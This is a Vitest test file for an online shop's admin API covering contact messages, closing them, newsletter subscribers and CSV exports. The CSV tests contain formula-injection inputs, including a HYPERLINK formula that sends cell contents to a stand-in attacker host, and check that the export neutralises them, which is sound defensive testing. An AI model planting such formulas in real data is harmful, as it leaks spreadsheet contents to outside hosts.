import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { checkoutBody, signedInAdmin, signedInShopper } from '#tests/setup/shoppers.ts';
import { createTestShop, type TestShop } from '#tests/setup/test-shop.ts';

let t: TestShop;
let admin: Awaited<ReturnType<typeof signedInAdmin>>;
let shopper: Awaited<ReturnType<typeof signedInShopper>>;
let orderNumber: string;

const BOM = '\uFEFF';
const contact = (body: Record<string, unknown>, headers: Record<string, string> = {}) =>
  t.json(
    '/api/contact',
    'POST',
    {
      name: 'Visitor',
      email: 'visitor@example.com',
      subject: 'Question',
      message: 'A question about cameras.',
      ...body,
    },
    headers,
  );

async function sendMessage(body: Record<string, unknown>, headers: Record<string, string> = {}): Promise<number> {
  const res = await contact(body, headers);
  expect(res.status).toBe(201);
  return (await res.json()).id;
}

beforeAll(async () => {
  t = await createTestShop();
  admin = await signedInAdmin(t);
  shopper = await signedInShopper(t, 'Order Owner');
  await shopper.call('/api/cart/lines', 'POST', { productId: 'wall-mount-bracket', quantity: 1 });
  const placed = await shopper.call('/api/checkout', 'POST', checkoutBody([{ id: 'wall-mount-bracket', quantity: 1 }]));
  expect(placed.status).toBe(201);
  orderNumber = (await placed.json()).order.number;
});
afterAll(() => t.close());

describe('access', () => {
  const urls = [
    '/api/admin/messages',
    '/api/admin/messages/1',
    '/api/admin/messages.csv',
    '/api/admin/subscribers',
    '/api/admin/subscribers.csv',
  ];

  it('serves the admin (200)', async () => {
    for (const url of urls.filter((u) => !u.endsWith('/1'))) expect((await admin.call(url)).status, url).toBe(200);
  });
});

describe('GET /api/admin/messages', () => {
  it('lists newest first with paging figures and the linked order number', async () => {
    const first = await sendMessage({ subject: 'Listing first', email: 'first@example.com' });
    const request = await shopper.call('/api/contact', 'POST', {
      name: 'Order Owner',
      email: shopper.email,
      subject: 'Cancellation request',
      message: 'Please cancel my order.',
      orderNumber,
    });
    expect(request.status).toBe(201);
    const requestId = (await request.json()).id;

    const res = await admin.call('/api/admin/messages');
    expect(res.status).toBe(200);
    expect(res.headers.get('cache-control')).toBe('no-store');
    const body = await res.json();
    expect(body).toMatchObject({ page: 1, pageSize: 25, total: expect.any(Number), pageCount: expect.any(Number) });
    expect(body.items.slice(0, 2).map((m: { id: number }) => m.id)).toEqual([requestId, first]);
    expect(body.items[0]).toMatchObject({
      status: 'open',
      orderNumber,
      email: shopper.email,
      locale: 'en',
      createdAt: expect.stringMatching(/^\d{4}-\d{2}-\d{2}T.*Z$/),
    });
    expect(body.items[1]).toMatchObject({ orderId: null, orderNumber: null, subject: 'Listing first' });
  });

  it('filters by status and search text', async () => {
    const id = await sendMessage(
      { subject: 'Filter me please', email: 'filter@example.com' },
      { 'accept-language': 'tr' },
    );
    const found = await (await admin.call('/api/admin/messages?q=FILTER%20me&status=open')).json();
    expect(found.items.map((m: { id: number }) => m.id)).toEqual([id]);
    expect(found.items[0].locale).toBe('tr');
    expect((await (await admin.call('/api/admin/messages?q=filter@example&status=closed')).json()).items).toEqual([]);
    // A GET form's blank fields count as not given.
    expect((await admin.call('/api/admin/messages?q=&status=&page=')).status).toBe(200);
  });

  it('answers a bad query with 400', async () => {
    for (const query of ['page=0', 'page=-1', 'page=1.5', 'page=abc', 'status=bogus', `q=${'x'.repeat(201)}`]) {
      const res = await admin.call(`/api/admin/messages?${query}`);
      expect(res.status, query).toBe(400);
      expect((await res.json()).message).toEqual(expect.any(String));
    }
    expect((await admin.call('/api/admin/messages.csv?status=bogus')).status).toBe(400);
    expect((await admin.call('/api/admin/subscribers?page=0')).status).toBe(400);
  });
});

describe('GET /api/admin/messages/{id}', () => {
  it('returns one message, 404 for an unknown id and 400 for a malformed one', async () => {
    const id = await sendMessage({ subject: 'Just one', phone: '+90 532 123 45 67', message: 'Line one\nLine two' });
    const res = await admin.call(`/api/admin/messages/${id}`);
    expect(res.status).toBe(200);
    expect(await res.json()).toMatchObject({
      id,
      subject: 'Just one',
      phone: '+90 532 123 45 67',
      message: 'Line one\nLine two',
      status: 'open',
      adminNote: null,
    });
    const unknown = await admin.call('/api/admin/messages/999999');
    expect(unknown.status).toBe(404);
    expect((await unknown.json()).message).toEqual(expect.any(String));
    expect((await admin.call('/api/admin/messages/abc')).status).toBe(400);
    expect((await admin.call('/api/admin/messages/0')).status).toBe(400);
  });
});

describe('POST /api/admin/messages/{id}/close', () => {
  it('closes an open message with a note, then refuses to close it again (409)', async () => {
    const id = await sendMessage({ subject: 'Close me' });
    const res = await admin.call(`/api/admin/messages/${id}/close`, 'POST', { note: 'Answered by phone.' });
    expect(res.status).toBe(200);
    expect(await res.json()).toMatchObject({ id, status: 'closed', adminNote: 'Answered by phone.' });
    const again = await admin.call(`/api/admin/messages/${id}/close`, 'POST', {});
    expect(again.status).toBe(409);
    expect((await again.json()).message).toEqual(expect.any(String));
  });

  it('closes without a body', async () => {
    const id = await sendMessage({ subject: 'Close me bare' });
    const res = await admin.call(`/api/admin/messages/${id}/close`, 'POST');
    expect(res.status).toBe(200);
    expect((await res.json()).status).toBe('closed');
  });

  it('leaves a cancellation request open (409) and answers 404 for an unknown id, 400 for a long note', async () => {
    const list = await (await admin.call(`/api/admin/messages?q=${orderNumber}`)).json();
    const requestId = list.items[0].id;
    expect((await admin.call(`/api/admin/messages/${requestId}/close`, 'POST', {})).status).toBe(409);
    expect((await (await admin.call(`/api/admin/messages/${requestId}`)).json()).status).toBe('open');
    expect((await admin.call('/api/admin/messages/999999/close', 'POST', {})).status).toBe(404);
    const id = await sendMessage({ subject: 'Long note' });
    const long = await admin.call(`/api/admin/messages/${id}/close`, 'POST', { note: 'x'.repeat(2001) });
    expect(long.status).toBe(400);
    expect((await long.json()).fieldErrors).toHaveProperty('note');
  });
});

/** The body as text after checking it starts with the UTF-8 BOM (Response.text() would drop it silently). */
async function csvBody(res: Response): Promise<string> {
  const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(await res.arrayBuffer());
  expect(text.startsWith(BOM), 'starts with the BOM').toBe(true);
  return text.slice(1);
}

/** A strict RFC 4180 reader: records end in CRLF, quoted fields may hold anything. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  const pattern = /("(?:[^"]|"")*"|[^",\r\n]*)(,|\r\n)/gy;
  let row: string[] = [];
  let match: RegExpExecArray | null;
  while ((match = pattern.exec(text))) {
    const raw = match[1];
    row.push(raw.startsWith('"') ? raw.slice(1, -1).replace(/""/g, '"') : raw);
    if (match[2] === '\r\n') {
      rows.push(row);
      row = [];
    }
    if (pattern.lastIndex === text.length) break;
  }
  expect(pattern.lastIndex, 'the whole text parses').toBe(text.length);
  return rows;
}

describe('GET /api/admin/messages.csv', () => {
  it('downloads the filtered messages as CSV with the right headers', async () => {
    const res = await admin.call('/api/admin/messages.csv');
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(res.headers.get('content-disposition')).toMatch(/^attachment; filename="messages-\d{4}-\d{2}-\d{2}\.csv"$/);
    expect(res.headers.get('cache-control')).toBe('no-store');
    const bytes = new Uint8Array(await res.arrayBuffer());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes);
    expect(
      text.startsWith(
        `${BOM}id,received_at,status,name,email,phone,subject,message,order_number,language,admin_note\r\n`,
      ),
    ).toBe(true);
    expect(text.endsWith('\r\n')).toBe(true);
  });

  it('neutralises formulas and quotes commas, quotes and new lines', async () => {
    const id = await sendMessage(
      {
        name: 'Şükrü, "the" Öztürk',
        email: 'csv@example.com',
        subject: '=HYPERLINK("http://evil.example/?x="&A1,"Click me")',
        phone: '+90 532 123 45 67',
        message: 'First line\r\nSecond line, with "quotes"\n@SUM(1+1)',
      },
      { 'accept-language': 'tr' },
    );
    const res = await admin.call('/api/admin/messages.csv?q=csv%40example.com');
    const text = await csvBody(res);
    const rows = parseCsv(text);
    expect(rows).toHaveLength(2);
    const [header, row] = rows;
    const record = Object.fromEntries(header.map((h, i) => [h, row[i]]));
    expect(record).toMatchObject({
      id: String(id),
      status: 'open',
      name: 'Şükrü, "the" Öztürk',
      email: 'csv@example.com',
      phone: "'+90 532 123 45 67",
      subject: `'=HYPERLINK("http://evil.example/?x="&A1,"Click me")`,
      // A line of its own is a cell of its own where the quote is not read: it gets the apostrophe too.
      message: `First line\r\nSecond line, with "quotes"\n'@SUM(1+1)`,
      order_number: '',
      language: 'tr',
      admin_note: '',
    });
    expect(record.received_at).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}Z$/);
    // The raw text: the dangerous field starts with a quote then the apostrophe, never with "=".
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click me"")"`);
    expect(text).not.toMatch(/(^|,)"?=/m);
  });

  it('applies the status filter', async () => {
    const id = await sendMessage({ subject: 'Closed for CSV', email: 'closed-csv@example.com' });
    await admin.call(`/api/admin/messages/${id}/close`, 'POST', { note: 'done, "really"' });
    const closed = parseCsv(await csvBody(await admin.call('/api/admin/messages.csv?status=closed&q=closed-csv')));
    expect(closed).toHaveLength(2);
    expect(closed[1][2]).toBe('closed');
    expect(closed[1][10]).toBe('done, "really"');
    expect(parseCsv(await csvBody(await admin.call('/api/admin/messages.csv?status=open&q=closed-csv')))).toHaveLength(
      1,
    );
  });
});

describe('subscribers', () => {
  it('lists subscribers from the newsletter form, newest first, and finds by address', async () => {
    expect(
      (await t.json('/api/newsletter', 'POST', { email: 'First.Reader@example.com', source: 'home' })).status,
    ).toBe(201);
    expect(
      (
        await t.json(
          '/api/newsletter',
          'POST',
          { email: 'okur@example.com.tr', source: 'footer' },
          { cookie: 'lang=tr' },
        )
      ).status,
    ).toBe(201);
    const res = await admin.call('/api/admin/subscribers');
    expect(res.status).toBe(200);
    const body = await res.json();
    expect(body).toMatchObject({ page: 1, pageSize: 50, total: 2, pageCount: 1 });
    // Double opt-in: both wait for their confirmation (docs/product.md §16.2).
    const pending = { status: 'pending', createdAt: expect.any(String), confirmedAt: null, unsubscribedAt: null };
    expect(body.items).toEqual([
      { email: 'okur@example.com.tr', locale: 'tr', source: 'footer', ...pending },
      { email: 'first.reader@example.com', locale: 'en', source: 'home', ...pending },
    ]);
    expect((await (await admin.call('/api/admin/subscribers?status=confirmed')).json()).total).toBe(0);
    expect((await (await admin.call('/api/admin/subscribers?status=pending')).json()).total).toBe(2);
    expect((await admin.call('/api/admin/subscribers?status=lost')).status).toBe(400);
    const found = await (await admin.call('/api/admin/subscribers?q=READER')).json();
    expect(found.items.map((s: { email: string }) => s.email)).toEqual(['first.reader@example.com']);
    expect((await (await admin.call('/api/admin/subscribers?page=2')).json()).items).toEqual([]);
  });

  it('downloads them as CSV', async () => {
    await t.json('/api/newsletter', 'POST', { email: '=cmd@example.com', source: 'footer' });
    const res = await admin.call('/api/admin/subscribers.csv');
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(res.headers.get('content-disposition')).toMatch(
      /^attachment; filename="subscribers-\d{4}-\d{2}-\d{2}\.csv"$/,
    );
    expect(res.headers.get('cache-control')).toBe('no-store');
    const rows = parseCsv(await csvBody(res));
    expect(rows[0]).toEqual([
      'email',
      'language',
      'source',
      'subscribed_at',
      'status',
      'confirmed_at',
      'unsubscribed_at',
    ]);
    const emails = rows.slice(1).map((r) => r[0]);
    expect(emails).toContain('okur@example.com.tr');
    expect(emails.filter((e) => e.includes('cmd@'))).toEqual(["'=cmd@example.com"]);
  });
});
